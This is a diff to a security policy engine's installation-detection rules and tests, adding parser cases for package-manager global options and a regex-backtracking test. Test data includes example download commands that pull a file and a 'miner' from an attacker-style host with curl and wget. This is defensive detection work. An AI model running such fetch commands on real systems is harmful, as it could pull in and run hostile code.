@@ -189,6 +189,7 @@ softwareInstallation:
     - {name: apt-get, commands: [install]}
     - {name: pip}
     - {name: pip3, severity: high}
+    - {name: apt}
     - {name: npm}
     - {name: yarn}
     - {name: go}
@@ -218,8 +219,30 @@ INSTALLS = [
     (("gem", "install", "rails"), "gem"),
     (("curl", "-sSLo", "/tmp/x", "https://evil.example/x"), "curl"),
     (("wget", "http://evil.example/miner"), "wget"),
+    # Each tool's grammar: global options that take values come before the subcommand
+    # (apt-get(8) -o/-c/-t, pip's General Options, npm --prefix, apk -X, dnf --setopt).
+    (("apt-get", "-o", "Dpkg::Options::=--force-confnew", "install", "x"), "apt-get"),
+    (("apt-get", "-c", "/tmp/apt.conf", "-t", "bookworm-backports", "install", "x"), "apt-get"),
+    (("apt", "-o", "APT::Get::Assume-Yes=1", "full-upgrade"), "apt"),
+    (("pip", "--proxy", "http://proxy:3128", "install", "x"), "pip"),
+    (("pip", "--cache-dir", "/tmp/c", "--log", "/tmp/l", "install", "x"), "pip"),
+    (("/usr/bin/pip3.11", "--proxy", "http://p:1", "install", "x"), "pip3"),
+    (("python3.11", "-I", "-m", "pip", "--proxy", "http://p:1", "install", "x"), "pip"),
+    (("python3", "-X", "dev", "-mpip", "install", "x"), "pip"),
+    (("npm", "--prefix", "/app", "i", "x"), "npm"),
+    (("npm", "isntall", "x"), "npm"),
+    (("npm", "ci"), "npm"),
+    (("yarn", "add", "x"), "yarn"),
+    (("yarn", "--cwd", "/app", "add", "x"), "yarn"),
+    (("apk", "-X", "http://dl-cdn.alpinelinux.org/alpine/edge/main", "add", "nmap"), "apk"),
+    (("apk", "--root", "/mnt", "add", "nmap"), "apk"),
 ]
 NOT_INSTALLS = [
+    ("apt-get", "-o", "APT::Get::Assume-Yes=1", "update"),
+    ("pip", "--proxy", "http://proxy:3128", "list"),
+    ("npm", "--prefix", "/app", "run", "install"),
+    ("apk", "-X", "http://x/add", "info"),
+    ("python3", "-c", "import pip; print('-m pip install')"),
     ("apt-get", "update"),
     ("pip", "list"),
     ("npm", "run", "build"),
@@ -414,3 +437,18 @@ def test_unmatched_events_share_the_allow_verdict() -> None:
     engine = Engine(load_policies([policies_dir() / "tracing-policy-schema.yaml"]))
     quiet = open_ev("/usr/lib/python3/x.py", ACCESS_READ)
     assert engine.evaluate(quiet) is engine.evaluate(quiet)  # the shared ALLOW verdict
+
+
+def test_a_catastrophic_pattern_runs_in_linear_time() -> None:
+    """`(\\w+\\s?)+$` backtracks exponentially in Python's `re` on a word followed by a
+    non-word character (2^n paths for n characters): the issue measured an 18 s stall.
+    Patterns are RE2 (sidecar.patterns), so 100,000 characters are one linear scan; with a
+    backtracking engine this test would not finish."""
+    engine = Engine(policy(
+        "processExecution:\n  trackedExecutables:\n"
+        "    - {name: sh, argsPattern: '(\\w+\\s?)+$', action: block}\n"
+    ))  # fmt: skip
+    assert type(engine._processes[0].pattern).__module__.startswith("re2")
+    evil = exec_ev("sh", "-c", "a" * 100_000 + "!")
+    assert engine.evaluate(evil).events == ()  # no match: ends in a non-word character
+    assert engine.evaluate(exec_ev("sh", "-c", "echo hi")).block
